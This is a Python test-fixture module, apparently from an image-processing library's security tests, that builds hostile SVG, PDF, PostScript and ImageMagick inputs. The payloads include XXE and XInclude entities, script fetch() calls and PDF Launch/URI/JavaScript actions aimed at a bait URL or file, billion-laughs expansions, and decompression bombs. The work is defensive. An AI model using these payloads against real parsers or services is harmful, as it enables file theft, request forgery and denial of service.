# SPDX-License-Identifier: GPL-2.0-or-later WITH cryptsetup-OpenSSL-exception
"""SVG and PDF files that mean harm, and files that are something else. Rows as in hostile_raster.

`bait` is what such files must not reach: bait.url, an address that is listened at; bait.pipe, a file that nobody may
open; bait.picture, a PNG in magenta, which no result may show."""
import base64
import gzip
import struct
import zlib

from hostile_raster import HUGE, chunk, header, icc, png, zeros

SVG_CLAIM = ("image/svg+xml", 100, 100, 8, "R", 1)
PDF_CLAIM = ("application/pdf", 100, 100, 8, "R", 1)


# ---- SVG ----

def svg(inner, size='width="100" height="100"', before=""):
    return (f'{before}<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
            f'xmlns:xi="http://www.w3.org/2001/XInclude" {size}>{inner}</svg>').encode()


def laughs(name, count):
    return "".join(f'<!ENTITY {name}{i} "{f"&{name}{i - 1};" * 10}">' for i in range(1, count))


def references(bait):
    """Ways to say that something outside is part of the picture."""
    for kind, target in (("url", bait.url), ("pipe", bait.pipe), ("picture", bait.picture), ("file-url", "file://" + str(bait.picture)),
                         ("host", "//" + bait.url.split("//")[1])):
        cover = 'x="0" y="0" width="100" height="100"'
        yield f"image-{kind}", svg(f'<image {cover} href="{target}"/>')
        yield f"xlink-{kind}", svg(f'<image {cover} xlink:href="{target}"/>')
        yield f"use-{kind}", svg(f'<use href="{target}#a"/>')
        yield f"fe-image-{kind}", svg(f'<filter id="f"><feImage href="{target}"/></filter><rect {cover} filter="url(#f)"/>')
        yield f"import-{kind}", svg(f'<style>@import url({target});</style><rect {cover}/>')
        yield f"font-{kind}", svg(f'<style>@font-face {{font-family:x;src:url({target})}}</style><text y="50" font-family="x">a</text>')
        yield f"fill-{kind}", svg(f'<rect {cover} fill="url({target}#a)"/>')
        yield f"style-{kind}", svg(f'<rect {cover} style="filter:url({target}#a);mask:url(\'{target}#b\')"/>')
        yield f"include-{kind}", svg(f'<text y="50"><xi:include href="{target}" parse="text"/></text>')
        yield f"include-xml-{kind}", svg(f'<xi:include href="{target}"/>')
        yield f"entity-{kind}", svg('<text y="50">&c;</text>', before=f'<!DOCTYPE svg [<!ENTITY c SYSTEM "{target}">]>')
        yield f"parameter-{kind}", svg("<rect/>", before=f'<!DOCTYPE svg [<!ENTITY % c SYSTEM "{target}"> %c;]>')
        yield f"dtd-{kind}", svg("<rect/>", before=f'<!DOCTYPE svg SYSTEM "{target}">')
        yield f"stylesheet-{kind}", svg(f"<rect {cover}/>", before=f'<?xml-stylesheet type="text/css" href="{target}"?>')
        inside = base64.b64encode(svg(f'<image {cover} href="{target}"/>')).decode()
        yield f"data-{kind}", svg(f'<image {cover} href="data:image/svg+xml;base64,{inside}"/>')
        yield f"entity-href-{kind}", svg(f'<image {cover} href="&c;"/>', before=f'<!DOCTYPE svg [<!ENTITY c "{target}">]>')
        yield f"default-href-{kind}", svg(f"<image {cover}/>", before=f'<!DOCTYPE svg [<!ATTLIST image href CDATA "{target}">]>')
        yield f"base-{kind}", svg(f'<g xml:base="{target}"><image {cover} href="#a"/></g>')
        yield f"script-{kind}", svg(f'<script href="{target}"/><script>fetch("{target}")</script>')
        yield f"foreign-{kind}", svg(f'<foreignObject {cover}><iframe xmlns="http://www.w3.org/1999/xhtml" src="{target}"/></foreignObject>')


def svgs(bait):
    for name, data in references(bait):
        yield f"svg-{name}", data, SVG_CLAIM
    outside = f'<image width="100" height="100" href="{bait.url}"/>'
    for coding in ("utf-16", "utf-16-be", "utf-7", "utf-32"):
        text = f'<?xml version="1.0" encoding="{coding}"?>' + svg(outside).decode()
        yield f"svg-in-{coding}", text.encode(coding), SVG_CLAIM
    yield "svg-compressed", gzip.compress(svg(outside)), SVG_CLAIM
    yield "svg-compressed-bomb", lambda: gzip.compress(svg("<g/>") + b" " * (200 << 20), 9), SVG_CLAIM
    yield "svg-laughs", svg("<text>&a9;</text>", before=f'<!DOCTYPE svg [<!ENTITY a0 "lol">{laughs("a", 10)}]>'), SVG_CLAIM
    yield "svg-laughs-quadratic", svg("&a;" * 20000, before=f'<!DOCTYPE svg [<!ENTITY a "{"x" * 40000}">]>'), SVG_CLAIM
    yield "svg-entity-of-itself", svg("&a;", before='<!DOCTYPE svg [<!ENTITY a "&b;"><!ENTITY b "&a;">]>'), SVG_CLAIM
    yield "svg-uses-itself", svg('<g id="a"><use href="#a"/><use href="#a"/></g>'), SVG_CLAIM
    yield "svg-uses-in-a-ring", svg('<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>'), SVG_CLAIM
    doubling = "".join(f'<g id="u{i}">{f"<use href=%s#u{i - 1}%s/>" % (chr(34), chr(34)) * 10}</g>' for i in range(1, 12))
    yield "svg-uses-10-to-11", svg(f'<g id="u0"><rect width="1" height="1"/></g>{doubling}<use href="#u11"/>'), SVG_CLAIM
    yield "svg-pattern-of-itself", svg('<pattern id="p" width="1" height="1"><rect width="1" height="1" fill="url(#p)"/></pattern>'
                                       '<rect width="100" height="100" fill="url(#p)"/>'), SVG_CLAIM
    yield "svg-mask-of-itself", svg('<mask id="m"><rect width="9" height="9" mask="url(#m)"/></mask><rect width="9" height="9" mask="url(#m)"/>'), SVG_CLAIM
    yield "svg-50000-deep", svg("<g>" * 50000 + "</g>" * 50000), SVG_CLAIM
    yield "svg-100000-elements", svg("<rect/>" * 100000), SVG_CLAIM
    yield "svg-blur-1e9", svg('<filter id="f"><feGaussianBlur stdDeviation="1e9"/></filter><rect width="100" height="100" filter="url(#f)"/>'), SVG_CLAIM
    blurs = '<feGaussianBlur stdDeviation="90"/><feMorphology radius="200"/><feTurbulence numOctaves="50" baseFrequency="0.9"/>' * 40
    filtered = f'<filter id="f" width="1000%" height="1000%" filterRes="20000">{blurs}</filter><rect width="8000" height="8000" filter="url(#f)"/>'
    yield "svg-120-filters", svg(filtered, 'width="8000" height="8000"'), ("image/svg+xml", 8000, 8000, 8, "R", 1)
    yield "svg-matrix-of-1000", svg('<filter id="f"><feConvolveMatrix order="1000" kernelMatrix="1"/></filter><rect width="9" height="9" filter="url(#f)"/>'), SVG_CLAIM
    yield "svg-tiles", svg('<filter id="f"><feFlood width="1e-9" height="1e-9"/><feTile/></filter><rect width="100" height="100" filter="url(#f)"/>'), SVG_CLAIM
    yield "svg-tiny-pattern", svg('<pattern id="p" width="1e-6" height="1e-6" patternUnits="userSpaceOnUse"><rect width="1" height="1"/></pattern>'
                                  '<rect width="100" height="100" fill="url(#p)"/>'), SVG_CLAIM
    yield "svg-font-of-1e9", svg('<text font-size="1e9">huge</text>'), SVG_CLAIM
    yield "svg-text-of-500-k", svg(f'<text>{"word " * 100000}</text>'), SVG_CLAIM
    yield "svg-path-of-900-k", svg(f'<path stroke="red" stroke-dasharray="1e-9 1e-9" d="M0 0{"L100 0L0 100" * 60000}"/>'), SVG_CLAIM
    yield "svg-dashes-1e-9", svg('<path stroke="red" stroke-dasharray="1e-9" d="M0 0L1e9 1e9"/>'), SVG_CLAIM
    for name, size in (("1e9", 'width="1e9" height="1e9"'), ("0", 'width="0" height="0"'), ("negative", 'width="-5" height="-5"'), ("nan", 'width="nan" height="inf"'),
                       ("box-0", 'viewBox="0 0 0 0"'), ("box-1e-30", 'width="100" height="100" viewBox="0 0 1e-30 1e-30"'), ("9900", 'width="9900" height="9900"'), (
                           "percent", 'width="1e6%" height="1e6%"')):
        yield f"svg-size-{name}", svg('<rect width="100%" height="100%"/>', size), ("image/svg+xml", 9900, 9900, 8, "R", 1)

    def with_bomb():
        bomb = base64.b64encode(png(header(20000, 20000, 1, 0), chunk(b"IDAT", zeros(2501 * 20000)))).decode()
        return svg(f'<image width="100" height="100" href="data:image/png;base64,{bomb}"/>')
    yield "svg-with-png-bomb", with_bomb, SVG_CLAIM
    inner = svg("<rect/>")
    for _ in range(12):
        inner = svg(f'<image width="9" height="9" href="data:image/svg+xml;base64,{base64.b64encode(inner).decode()}"/>')
    yield "svg-in-svg-12-deep", inner, SVG_CLAIM
    yield "svg-not-closed", b"<svg" + b" a" * 100000, SVG_CLAIM
    yield "svg-attributes-50000", svg("<g " + " ".join(f'a{i}=""' for i in range(50000)) + "/>"), SVG_CLAIM


# ---- PDF ----

def pdf(page, *others, contents="0 0 m", catalog="", resources=""):
    """Objects 1 catalog, 2 pages, 3 page, 4 contents, then others."""
    objects = [f"<< /Type /Catalog /Pages 2 0 R {catalog} >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
               f"<< /Type /Page /Parent 2 0 R /Contents 4 0 R /Resources << {resources} >> {page} >>",
               f"<< /Length {len(contents)} >>\nstream\n{contents}\nendstream", *others]
    out, places = b"%PDF-1.7\n", []
    for number, text in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n" % number + (text if isinstance(text, bytes) else text.encode()) + b"\nendobj\n"
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    return (out + b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1) + table
            + b"trailer << /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, len(out)))


def pdfs(bait):
    page = "/MediaBox [0 0 100 100]"
    picture = "<< /Type /XObject /Subtype /Image /Width 100 /Height 100 /ColorSpace /DeviceRGB /BitsPerComponent 8 "
    shown = {"contents": "100 0 0 100 0 0 cm /I Do", "resources": "/XObject << /I 5 0 R >>"}

    for kind, target in (("url", bait.url), ("pipe", bait.pipe), ("picture", bait.picture)):
        yield f"pdf-file-{kind}", pdf(page, picture + f"/F << /Type /Filespec /FS /URL /F ({target}) >> /Length 0 >>\nstream\n\nendstream", **shown), PDF_CLAIM
        yield f"pdf-contents-{kind}", pdf(page).replace(b"<< /Length 5 >>", f"<< /Length 5 /F ({target}) >>".encode()), PDF_CLAIM
        yield f"pdf-reference-{kind}", pdf(page, f"<< /Type /XObject /Subtype /Form /BBox [0 0 100 100] /Ref << /F ({target}) /Page 0 >> /Length 0 >>\nstream\n"
                                           "\nendstream", **shown), PDF_CLAIM
        yield f"pdf-opens-{kind}", pdf(page, catalog=f"/OpenAction << /S /URI /URI ({target}) >>"), PDF_CLAIM
        yield f"pdf-launches-{kind}", pdf(page, catalog=f"/OpenAction << /S /Launch /F ({target}) >>"), PDF_CLAIM
        yield f"pdf-goes-to-{kind}", pdf(page + f" /AA << /O << /S /GoToR /F ({target}) /D [0 /Fit] >> >>"), PDF_CLAIM
        yield f"pdf-submits-{kind}", pdf(page, catalog=f"/OpenAction << /S /SubmitForm /F << /FS /URL /F ({target}) >> >>"), PDF_CLAIM
        yield f"pdf-script-{kind}", pdf(page, catalog=f"/OpenAction << /S /JavaScript /JS (app.launchURL('{target}'); this.getURL('{target}')) >>"), PDF_CLAIM
        yield f"pdf-movie-{kind}", pdf(page + f" /Annots [<< /Type /Annot /Subtype /Movie /Rect [0 0 100 100] /Movie << /F ({target}) >> >>]"), PDF_CLAIM
    yield "pdf-pages-in-a-ring", pdf(page).replace(b"/Kids [3 0 R]", b"/Kids [2 0 R]"), None
    yield "pdf-parent-in-a-ring", pdf("/Parent 3 0 R"), None
    yield "pdf-box-of-1e30", pdf("/MediaBox [0 0 1e30 1e30]"), None
    yield "pdf-box-of-14400-units", pdf("/MediaBox [0 0 14400 14400] /UserUnit 75000"), None
    yield "pdf-box-empty", pdf("/MediaBox [5 5 5 5]"), None
    yield "pdf-box-inside-out", pdf("/MediaBox [100 100 -100 -100]"), PDF_CLAIM
    yield "pdf-of-2-billion-pages", pdf(page).replace(b"/Count 1", b"/Count %d" % HUGE), PDF_CLAIM
    yield "pdf-form-of-itself", pdf(page, "<< /Type /XObject /Subtype /Form /BBox [0 0 100 100] /Resources << /XObject << /I 5 0 R >> >> /Length 5 >>\nstream\n"
                                    "/I Do\nendstream", **shown), PDF_CLAIM
    forms = [f"<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /I {6 + i} 0 R >> >> /Length 60 >>\nstream\n" + "/I Do " * 10
             + "\nendstream" for i in range(12)]
    yield "pdf-forms-10-to-12", pdf(page, *forms, "<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Length 10 >>\nstream\n0 0 9 9 re\nendstream", **shown), PDF_CLAIM

    def bomb(filters, data):
        packed = b"<< /Filter %s /Length %d >>\nstream\n" % (filters, len(data)) + data + b"\nendstream"
        return pdf(page, packed).replace(b"/Contents 4 0 R", b"/Contents 5 0 R")
    yield "pdf-contents-bomb", lambda: bomb(b"/FlateDecode", zeros(500 << 20)), PDF_CLAIM
    yield "pdf-bomb-in-a-bomb", lambda: bomb(b"[/FlateDecode /FlateDecode]", zlib.compress(zeros(500 << 20))), PDF_CLAIM
    yield "pdf-picture-of-60000", pdf(page, picture.replace("100", "60000") + "/Length 9 >>\nstream\n123456789\nendstream", **shown), PDF_CLAIM
    yield "pdf-jbig2-garbage", pdf(page, picture + "/Filter /JBIG2Decode /Length 9 >>\nstream\n123456789\nendstream", **shown), PDF_CLAIM
    yield "pdf-jpx-garbage", pdf(page, picture + "/Filter /JPXDecode /Length 9 >>\nstream\n123456789\nendstream", **shown), PDF_CLAIM
    yield "pdf-fax-of-minus-1", pdf(page, picture + "/Filter /CCITTFaxDecode /DecodeParms << /K -1 /Columns -1 /Rows 2147483647 >> /Length 9 >>\nstream\n123456789\n"
                                    "endstream", **shown), PDF_CLAIM
    yield "pdf-predictor", pdf(page, picture + "/Filter /FlateDecode /DecodeParms << /Predictor 15 /Colors 2147483647 /Columns 2147483647 >> /Length 9 >>\nstream\n"
                               "123456789\nendstream", **shown), PDF_CLAIM
    yield "pdf-50000-saves", pdf(page, contents="q " * 50000), PDF_CLAIM
    yield "pdf-arrays-100000-deep", pdf(page, catalog="/A " + "[" * 100000), PDF_CLAIM
    yield "pdf-dashes", pdf(page, contents="[1e-30 1e-30] 0 d 0 0 m 1e30 1e30 l S"), PDF_CLAIM
    yield "pdf-function-of-itself", pdf(page, "<< /FunctionType 3 /Domain [0 1] /Functions [5 0 R] /Bounds [] /Encode [0 1] >>",
                                        contents="/S sh", resources="/Shading << /S << /ShadingType 2 /ColorSpace /DeviceGray /Coords [0 0 9 9] /Function 5 0 R >> >>"), PDF_CLAIM
    yield "pdf-encrypted", pdf(page).replace(b"/Root 1 0 R", b"/Root 1 0 R /Encrypt << /Filter /Standard /V 5 /R 6 /Length -1 >>"), PDF_CLAIM
    yield "pdf-table-in-a-ring", pdf(page).replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev 9"), PDF_CLAIM
    yield "pdf-without-table", pdf(page).split(b"xref")[0], PDF_CLAIM
    yield "pdf-head-alone", b"%PDF-1.7\n", None


# ---- Others ----

def others(bait):
    """What other programs read, run or unpack, and this one must not."""
    small = png(header(10, 10), chunk(b"IDAT", zlib.compress(bytes(310))))
    yield "nothing", b"", None
    yield "one-byte", b"\xff", None
    yield "a-megabyte-of-zeros", bytes(1 << 20), None
    yield "text", b"not a picture", None
    yield "html", b"<!DOCTYPE html><html><img src='%s'></html>" % bait.url.encode(), None
    yield "gzip-bomb", lambda: gzip.compress(bytes(200 << 20), 9), None
    yield "zip-and-png", b"PK\3\4" + bytes(26) + small, None
    yield "magick-mvg", b"push graphic-context\nviewbox 0 0 640 480\nfill 'url(%s)'\npop graphic-context" % bait.url.encode(), None
    yield "magick-msl", b'<?xml version="1.0"?><image><read filename="%s"/></image>' % bait.url.encode(), None
    yield "postscript", b"%%!PS\n(%s) (r) file 1000 string readstring pop print" % str(bait.pipe).encode(), None
    yield "eps-with-preview", b"\xc5\xd0\xd3\xc6" + struct.pack("<6I", 0xffffffff, 30, 30, 30, 30, 30), None
    yield "ppm-65535x65535", b"P6 65535 65535 255\n" + bytes(300), None
    yield "radiance", b"#?RADIANCE\nFORMAT=32-bit_rle_rgbe\n\n-Y 999999999 +X 999999999\n", None
    yield "fits", b"SIMPLE  =                    T".ljust(2880), None
    yield "openexr", b"\x76\x2f\x31\x01" + bytes(200), None
    yield "vips-matrix", b"100000 100000\n", None
    yield "vips-own", b"\xb6\xa6\xf2\x08" + struct.pack("<8i", 60000, 60000, 3, 0, 0, 0, 0, 0) + bytes(300), None
    yield "psd", b"8BPS\0\1" + bytes(6) + b"\xff\xff" + b"\xff" * 40, None
    yield "icon", b"\0\0\1\0\xff\xff" + b"\xff" * 200, None
    yield "profile-lies", icc(size=0xffffffff), None
    yield "profile-4-billion-tags", icc(tags=0xffffffff), None
    yield "profile-tag-beyond-end", icc(offset=0xfffffff0, length=0x7fffffff), None
    yield "elf", b"\x7fELF" + bytes(200), None
    yield "jxl", b"\xff\x0a" + b"\xff" * 100, None


def truncations(good):
    """`good`: {name: (bytes, mime)}, cut at several places."""
    for name, (data, claim) in good.items():
        for part in (4, 12, 40, len(data) // 4, len(data) // 2, len(data) * 9 // 10, len(data) - 1):
            yield f"{name}-cut-at-{part}", data[:part], claim
